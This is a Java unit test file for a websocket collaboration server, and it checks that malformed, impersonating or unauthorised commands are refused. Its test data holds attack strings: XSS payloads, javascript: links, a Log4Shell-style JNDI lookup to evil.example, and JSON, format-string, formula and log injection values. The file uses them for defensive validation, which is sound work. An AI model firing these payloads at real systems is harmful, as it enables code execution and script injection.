package org.tablee.session;

import static org.assertj.core.api.Assertions.assertThat;
import static org.tablee.session.World.ANA;
import static org.tablee.session.World.BEN;
import static org.tablee.session.World.OLGA;

import io.vertx.core.Vertx;
import io.vertx.junit5.VertxExtension;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DisplayNameGeneration;
import org.junit.jupiter.api.DisplayNameGenerator.ReplaceUnderscores;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.tablee.QuietLog;
import org.tablee.json.JsonObject;
import org.tablee.json.JsonValue.JsonNull;

/** What no table takes as a command, over a socket. */
@ExtendWith(VertxExtension.class)
@DisplayNameGeneration(ReplaceUnderscores.class)
class FeedingCommandsTest {
  private static final String RENAMING =
      "{'type':'RenameFinding','finding':'f0','title':'Un abri'}";

  @RegisterExtension final QuietLog log = new QuietLog();
  private Feeding feeding;

  @BeforeEach
  void open(Vertx vertx) {
    feeding = new Feeding(vertx);
  }

  @AfterEach
  void close() {
    feeding.close();
  }

  private void invalid(String command, String field) {
    var refused = feeding.refused(command);
    assertThat(refused.string("code")).as(command).isEqualTo("command.invalid");
    assertThat(refused.object("params").string("field")).as(command).isEqualTo(field);
  }

  private void brokenFrame(String frame) {
    assertThat(feeding.refusedFrame(frame).string("code")).as(frame).isEqualTo("frame.invalid");
  }

  private static String with(String field) {
    return RENAMING.substring(0, RENAMING.length() - 1) + "," + field + "}";
  }

  @Test
  void B7_a_command_with_odd_fields_is_invalid_and_with_doubled_ones_a_broken_frame() {
    invalid(with("'__proto__':{}"), "/__proto__");
    invalid(with("'$where':'1'"), "/$where");
    invalid(with("'a.b':1"), "/a.b");
    invalid(with("'a/b~':1"), "/a~1b~0");
    invalid(with("'':1"), "/");
    invalid(with("'deep':" + "[".repeat(20) + "]".repeat(20)), "/deep");
    assertThat(feeding.refused("{'type':'DropTable'}").string("code")).isEqualTo("command.unknown");
    assertThat(feeding.refused("{'type':'Join','participant':'ana'}").string("code"))
        .isEqualTo("command.unknown");
    var doubled = "{'type':'do','id':'%s','command':%s}";
    brokenFrame(doubled.formatted(feeding.nextId(), with("'title':'Un autre'")));
    brokenFrame(doubled.formatted(feeding.nextId(), with("'x':" + "[".repeat(10_000))));
    brokenFrame(doubled.formatted(feeding.nextId(), "[]"));
    brokenFrame(doubled.formatted(feeding.nextId(), "null"));
  }

  @ParameterizedTest
  @ValueSource(strings = {"-1", "1.5", "1e309", "9007199254740992", "'7'", "null", "[]"})
  void B8_a_number_out_of_range_in_a_join_is_a_broken_frame(String number) {
    var ana = feeding.world.open(ANA);
    ana.send("{'type':'join','client':'ana-tab-2','since':%s}".formatted(number));
    assertThat(ana.next().string("code")).isEqualTo("frame.invalid");

    ana.send("{'type':'join','client':'ana-tab-2'}");
    assertThat(ana.next().string("type")).isEqualTo("welcome");
  }

  @ParameterizedTest
  @ValueSource(strings = {"-1", "1.5", "1e309", "9007199254740992", "", "0", "07", "+7", "7 ", "٧"})
  void B8_an_id_with_a_number_out_of_range_is_a_broken_frame(String number) {
    var refused =
        feeding.refusedFrame(
            "{'type':'do','id':'ana-tab-1-%s','command':%s}".formatted(number, RENAMING));

    assertThat(refused.string("code")).isEqualTo("frame.invalid");
    if (!number.equals("-1")) {
      assertThat(refused.field("id")).isEqualTo(JsonNull.NULL);
    }
  }

  @ParameterizedTest
  @ValueSource(strings = {"-1", "1.5", "1e309", "9007199254740992", "'7'", "null"})
  void B8_a_place_out_of_range_is_a_broken_frame(String number) {
    brokenFrame("{'type':'here','base':%s}".formatted(number));
    brokenFrame("{'type':'here','base':5,'text':'f0','index':%s}".formatted(number));
    brokenFrame("{'type':'here','base':5,'text':'f0','length':%s}".formatted(number));
  }

  @ParameterizedTest
  @ValueSource(strings = {"by", "author", "participant", "onBehalfOf"})
  void B10_nobody_writes_in_the_name_of_another(String field) {
    var other = "'" + field + "':'ben'";
    brokenFrame(
        "{'type':'do','id':'%s',%s,'command':%s}".formatted(feeding.nextId(), other, RENAMING));
    brokenFrame("{'type':'here','base':5,%s}".formatted(other));
    invalid(with(other), "/" + field);
    invalid(feeding.edit("").replace("'base'", other + ",'base'"), "/" + field);

    feeding.stored(RENAMING);
    var seq = feeding.world.host().position().seq();
    var stored = feeding.world.history.read(World.TABLE, seq, 1).getFirst();
    assertThat(stored.commit().by()).isEqualTo(ANA);
  }

  @Test
  void B11_an_id_that_was_stored_is_done_whatever_it_holds_now() {
    feeding.stored(RENAMING);
    long seq = feeding.world.host().position().seq().value();
    int writes = feeding.world.store.writes();
    for (var again : new String[] {RENAMING, with("'more':1"), feeding.edit("{'insert':'x'}")}) {
      feeding.ana().command("ana-tab-1-1", again);
      var answer = feeding.ana().next();
      if (answer.string("type").equals("refused")) {
        // What cannot be read as a command has no content to compare.
        assertThat(answer.string("code")).isEqualTo("command.invalid");
      } else {
        assertThat(answer.string("type")).isEqualTo("done");
        assertThat(answer.number("seq")).isEqualTo(seq);
      }
    }
    feeding.ana().hasNothingElse();
    assertThat(feeding.world.store.writes()).isEqualTo(writes);
  }

  @Test
  void B11_an_id_may_leap_and_one_far_below_is_stale() {
    var leap = "{'type':'do','id':'ana-tab-1-%d','command':%s}";
    feeding.ana().send(leap.formatted(9_007_199_254_740_991L, RENAMING));
    assertThat(feeding.ana().next().string("type")).isEqualTo("commits");

    for (long late : new long[] {1, 1_000, 9_007_199_254_739_000L}) {
      feeding.ana().send(leap.formatted(late, RENAMING));
      var refused = feeding.ana().next();
      assertThat(refused.string("code")).isEqualTo("command.stale");
      assertThat(refused.string("id")).isEqualTo("ana-tab-1-" + late);
    }
    feeding.ana().send(leap.formatted(9_007_199_254_740_500L, RENAMING));
    assertThat(feeding.ana().next().string("type")).isEqualTo("commits");
  }

  @Test
  void B11_another_members_client_of_the_same_name_is_another_client() {
    feeding.ana().addFinding("ana-tab-1-7", "g1");
    feeding.ana().take("commits");
    var ben = feeding.world.open(BEN);
    ben.send("{'type':'join','client':'ana-tab-1'}");
    ben.take("welcome");

    ben.addFinding("ana-tab-1-7", "g2");

    var commit = ben.take("commits").objects("commits").getFirst();
    assertThat(commit.string("by")).isEqualTo("ben");
    assertThat(commit.string("id")).isEqualTo("ana-tab-1-7");
    assertThat(feeding.ana().take("commits").objects("commits")).containsExactly(commit);
    feeding.ana().addFinding("ana-tab-1-7", "g1");
    assertThat(feeding.ana().take("done").number("seq")).isEqualTo(commit.number("seq") - 1);
  }

  static String[] noLines() {
    return new String[] {
      "",
      "   ",
      "\\u200b\\u200d\\ufeff",
      "\\udb40\\udc41\\udb40\\udc42",
      "x".repeat(10_000),
      "a" + "\\u0301".repeat(200),
      "abc\\u202egnp.exe",
      "\\u2066abc",
      "a\\r\\nb",
      "{\\\"level\\\":\\\"ERROR\\\"}\\r\\n{\\\"level\\\":\\\"ERROR\\\"}",
      "a\\u0007b",
      "a\\u2028b"
    };
  }

  @ParameterizedTest
  @MethodSource("noLines")
  void B16_a_title_that_shows_nothing_or_too_much_is_an_invalid_command(String title) {
    invalid(
        "{'type':'AddFinding','finding':'g1','kind':'need','title':'%s'}".formatted(title),
        "/title");
    invalid("{'type':'RenameFinding','finding':'f0','title':'%s'}".formatted(title), "/title");
    if (!title.isEmpty()) {
      invalid("{'type':'SourceFinding','finding':'f0','source':'%s'}".formatted(title), "/source");
    }
    invalid("{'type':'MovePhase','phase':'debate','reason':'%s'}".formatted(title), "/reason");
  }

  @Test
  void F9_a_source_without_words_has_no_nature_and_a_link_is_one_that_texts_may_carry() {
    var source = "{'type':'SourceFinding','finding':'f0','source':'%s',%s}";
    invalid(source.formatted("", "'nature':'story'"), "/nature");
    invalid(source.formatted("", "'link':'https://example.org'"), "/link");
    invalid(source.formatted("Enquête", "'nature':'rumour'"), "/nature");
    for (var link :
        new String[] {
          "javascript:alert(1)",
          "java\\tscript:alert(1)",
          " https://example.org",
          "//evil",
          "data:text/html,x",
          "https://ana:secret@example.org",
          "x".repeat(2_001)
        }) {
      invalid(source.formatted("Enquête", "'link':'%s'".formatted(link)), "/link");
    }
  }

  @Test
  void ME4_CH3_a_list_of_findings_names_some_each_once_and_not_too_many() {
    var merge = "{'type':'MergeFindings','finding':'m1','kind':'need','title':'x','parents':%s}";
    for (var parents : new String[] {"'f0'", "[]", "['f0']", many(21)}) {
      invalid(merge.formatted(parents), "/parents");
    }
    for (var second : new String[] {"'f0'", "1", "''", "null"}) {
      invalid(merge.formatted("['f0',%s]".formatted(second)), "/parents/1");
    }
    var gather = "{'type':'GatherFindings','challenge':'c1','findings':%s}";
    for (var findings : new String[] {"{}", "[]", many(201)}) {
      invalid(gather.formatted(findings), "/findings");
      invalid("{'type':'ReleaseFindings','findings':%s}".formatted(findings), "/findings");
    }
    invalid(gather.formatted("['f0','f0']"), "/findings/1");
    for (var value : new String[] {"0", "11", "-1", "1.5", "'7'", "null"}) {
      invalid(
          "{'type':'RateChallenge','rating':'r1','challenge':'c1','value':%s}".formatted(value),
          "/value");
    }
  }

  private static String many(int count) {
    return IntStream.range(0, count)
        .mapToObj("'f%d'"::formatted)
        .collect(Collectors.joining(",", "[", "]"));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "\",\"role\":\"facilitator\",\"x\":\"",
        "\\r\\n{}",
        "${jndi:ldap://evil.example/a}",
        "{} %s %n",
        "=1+1",
        "Ana (animation)",
        "Оlga",
        "👨‍👩‍👧‍👦",
        "مرحبا بكم",
        "Trefurié c’hwec’h",
        "Người cao tuổi",
        "⠃⠗⠁⠊⠇⠇⠑",
        "e\u0301te\u0301"
      })
  void B16_B18_a_title_is_shown_as_it_was_written_and_logged_nowhere(String title) {
    var command =
        JsonObject.with()
            .field("type", "RenameFinding")
            .field("finding", "f0")
            .field("title", title)
            .build();
    World.await(
        feeding
            .ana()
            .socket
            .writeTextMessage(
                JsonObject.with()
                    .field("type", "do")
                    .field("id", feeding.nextId())
                    .field("command", command)
                    .build()
                    .toString()));

    var event = feeding.ana().next().objects("commits").getFirst().objects("events").getFirst();
    assertThat(event.string("title")).isEqualTo(title);
    assertThat(feeding.stateOfNewcomer().objects("findings").getFirst().string("title"))
        .isEqualTo(title);
    assertThat(log.lines()).noneMatch(line -> line.contains(title));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"\\ud800", "a\\udc00b", "\\u0000", "\\ufffe", "\\ufdd0", "\\ud83f\\udffe"})
  void B19_what_is_no_character_is_refused_in_a_line_as_well(String word) {
    for (var command :
        new String[] {
          "{'type':'AddFinding','finding':'g1','kind':'need','title':'%s'}",
          "{'type':'RenameFinding','finding':'f0','title':'%s'}",
          "{'type':'SourceFinding','finding':'f0','source':'%s'}",
          "{'type':'MovePhase','phase':'debate','reason':'%s'}",
          "{'type':'WithdrawFinding','finding':'%s'}"
        }) {
      assertThat(feeding.refused(command.formatted(word)).string("code"))
          .as(command)
          .isEqualTo("text.character");
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "{'type':'AddFinding','finding':'g1','kind':'need','title':'x'}",
        "{'type':'RenameFinding','finding':'f0','title':'x'}",
        "{'type':'RetypeFinding','finding':'f0','kind':'actor'}",
        "{'type':'SourceFinding','finding':'f0','source':'x'}",
        "{'type':'MoveFinding','finding':'f0'}",
        "{'type':'WithdrawFinding','finding':'f0'}",
        "{'type':'RestoreFinding','finding':'f0'}",
        "{'type':'EditText','text':'f0','base':5,'delta':{'ops':[{'insert':'x'}]}}",
        "{'type':'MovePhase','phase':'debate'}"
      })
  void B23_an_observer_does_nothing(String command) {
    var olga = feeding.world.join(OLGA);
    var refused =
        feeding.refusedFrame(
            olga, "{'type':'do','id':'olga-tab-1-1','command':%s}".formatted(command));

    assertThat(refused.string("code")).isEqualTo("rights.role");
  }

  @Test
  void B23_a_participant_does_not_moderate() {
    var ben = feeding.world.open(BEN);
    ben.send("{'type':'join','client':'ben-tab-2'}");
    ben.take("welcome");
    int writes = feeding.world.store.writes();
    for (var command :
        new String[] {
          RENAMING,
          "{'type':'RetypeFinding','finding':'f0','kind':'actor'}",
          "{'type':'SourceFinding','finding':'f0','source':'x'}",
          "{'type':'WithdrawFinding','finding':'f0'}",
          "{'type':'RestoreFinding','finding':'f0'}"
        }) {
      ben.command("ben-tab-2-1", command);
      assertThat(ben.next().string("code")).as(command).isEqualTo("rights.own");
    }
    ben.command("ben-tab-2-2", "{'type':'MovePhase','phase':'debate'}");
    assertThat(ben.next().string("code")).isEqualTo("rights.role");
    assertThat(feeding.world.store.writes()).isEqualTo(writes);
  }
}
